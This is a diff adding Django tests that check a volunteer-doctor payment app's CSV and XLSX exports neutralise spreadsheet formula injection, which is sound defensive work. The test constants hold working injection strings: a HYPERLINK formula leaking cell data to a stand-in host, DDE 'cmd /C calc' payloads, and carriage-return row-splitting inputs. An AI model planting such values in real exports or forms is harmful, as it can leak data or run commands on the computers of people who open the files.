@@ -21,8 +21,9 @@ from django.test import Client
 from frictionless import Resource, Schema
 from weasyprint.urls import URLFetchingError
 
+from solidarite.annuaire.models import MedecinVolontaire
 from solidarite.indemnisation import exports, pdf, services
-from solidarite.indemnisation.models import JourRealise, Releve
+from solidarite.indemnisation.models import JourRealise, LigneReleve, Releve
 from tests.factories import agent_ars
 from tests.snapshot import assert_snapshot, stable
 
@@ -159,6 +160,74 @@ def test_the_xlsx_export_of_the_ars(world) -> None:  # type: ignore[no-untyped-d
     assert response["Content-Type"] == exports.XLSX_TYPE
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
     assert [c.value for c in sheet["N"]][1:] == [200, 100]
+
+
+# --- Formula injection: a text typed by a person is never a formula in the exports -------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://exemple.invalid/?x="&A2,"Moreau")'
+FORMULA_FIRST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_REASON = "-1 demi-journée +cmd|' /C calc'!A0"
+
+
+def test_a_name_written_as_a_formula_stays_a_text_in_both_exports(world) -> None:  # type: ignore[no-untyped-def]
+    """The probe of 6 December: a volunteer named « =HYPERLINK(…) » was a live formula in the ARS's XLSX and a raw
+    « =… » in the CPAM's CSV. Now a text cell (and an apostrophe in the CSV); the −100 € adjustment stays a
+    number in both."""
+    agent = _paid_then_adjusted(world)
+    MedecinVolontaire.objects.filter(pk=world["doc"].pk).update(nom=FORMULA_NAME, prenom=FORMULA_FIRST_NAME)
+    LigneReleve.objects.filter(genre="ajustement").update(motif=FORMULA_REASON)
+    url = f"/indemnisation/ars/export/?region={world['region'].code}&mois=2026-11"
+    client = _client(agent)
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url + "&format=xlsx").content)).active
+    body = list(sheet.iter_rows(min_row=2))
+    assert body and not [c.coordinate for row in body for c in row if c.data_type == "f"]
+    cells = dict(zip(exports.COLUMNS, body[0], strict=True))
+    assert (cells["nom"].value, cells["nom"].data_type) == (FORMULA_NAME, "s")  # the name itself, as text
+    assert (cells["prenom"].value, cells["prenom"].data_type) == (FORMULA_FIRST_NAME, "s")
+    assert (cells["motif"].value, cells["motif"].data_type) == (FORMULA_REASON, "s")
+    assert cells["nom"].quotePrefix  # editing the cell in Excel keeps it a text
+    assert (cells["montant"].value, cells["montant"].data_type) == (-100, "n")
+    rows = list(csv.DictReader(io.StringIO(client.get(url).content.decode())))
+    assert rows[0]["nom"] == "'" + FORMULA_NAME and rows[0]["prenom"] == "'" + FORMULA_FIRST_NAME
+    assert rows[0]["motif"] == "'" + FORMULA_REASON and rows[0]["montant"] == "-100.00"
+
+
+@pytest.mark.parametrize(
+    ("name", "in_csv"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\n=1+1"),  # a bare carriage return ended the row: quoted as a line break in the cell
+        ("Moreau\r=1+1", "Moreau\n=1+1"),  # … and began a new row with a formula
+        ("Moreau-Durand", "Moreau-Durand"),
+    ],
+)
+def test_every_formula_start_is_neutralised_in_the_csv_and_the_xlsx(world, name: str, in_csv: str) -> None:  # type: ignore[no-untyped-def]
+    """OWASP's list of formula starts (and a name merely holding a hyphen, left as it is)."""
+    MedecinVolontaire.objects.filter(pk=world["doc"].pk).update(nom=name, prenom="A\x07lice")
+    data = exports.rows(Releve.objects.select_related("medecin", "region").prefetch_related("lignes"))
+    text = exports.csv_text(data)
+    # Read as a spreadsheet reads it: a bare carriage return would end a row.
+    header, *body = list(csv.reader(io.StringIO(text, newline="")))
+    assert header == exports.COLUMNS and {row[5] for row in body} == {in_csv} and len(body) == 2
+    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx(data))).active  # the bell was a 500
+    names = [(row[5].value, row[5].data_type, row[6].value) for row in sheet.iter_rows(min_row=2)]
+    # XML reads a carriage return as a line feed; the bell, which XML cannot hold, is dropped.
+    assert names == [(name.replace("\r", "\n"), "s", "Alice")] * 2
+
+
+def test_the_national_totals_keep_a_region_s_name_a_text_and_amounts_numbers() -> None:
+    rows = [
+        {"region__code": "84", "region__nom": "=1+1", "mois": NOV, "releves": 2, "montant": Decimal("-100")},
+        {"region__code": "11", "region__nom": "Île-de-France", "mois": NOV, "releves": 1, "montant": None},
+    ]
+    assert exports.totaux_csv(rows).splitlines()[1:] == [
+        "84,'=1+1,2026-11,2,-100.00",
+        "11,Île-de-France,2026-11,1,0.00",
+    ]
 
 
 # --- PDF: weasyprint from the template, nothing fetched -------------------------------------------------------
